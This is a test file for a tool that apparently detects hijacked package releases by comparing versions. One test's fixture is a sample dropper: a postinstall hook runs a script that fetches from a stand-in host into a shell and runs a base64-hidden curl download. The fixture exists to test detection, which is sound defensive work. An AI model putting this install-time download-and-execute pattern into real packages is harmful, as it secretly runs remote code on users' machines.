import { expect, test } from 'vitest'
import { hijacks } from '../../test/hijacks/hijacks.ts'
import { judgeReleases } from '../../test/judge-releases.ts'

test.each(hijacks)(
  '$ecosystem $name $to is high or critical, and the first reason is the telling one',
  async ({ before, after, from, to, tells }) => {
    const [first] = await judgeReleases(before, after, [from, to])
    expect(first?.message).toMatch(tells)
    expect(first?.severity).toMatch(/^(?:high|critical)$/)
    expect(first?.places[0]?.text).not.toBe('')
  },
)

test.each(hijacks)('$name $from to itself says nothing', async ({ before }) => expect(await judgeReleases(before, before)).toEqual([]))

test('a dropper that an upgrade brings along is told of by itself', async () => {
  const files = {
    'package.json': '{"name":"plain-ciphers-js","version":"4.2.1","scripts":{"postinstall":"node setup.js"}}',
    'setup.js':
      "const c = require('child_process'), h = require('https')\nh.get('https://files.invalid/' + process.platform, (r) => c.exec('sh'))\nc.exec(Buffer.from('Y3VybCAtcyBodHRwczovL2ZpbGVzLmludmFsaWQvNjIwMjAzMyA+IC90bXAvbGQucHk=', 'base64').toString())",
  }
  expect((await judgeReleases(null, files))[0]).toMatchObject({ severity: 'high', code: 'capability-gained' })
})
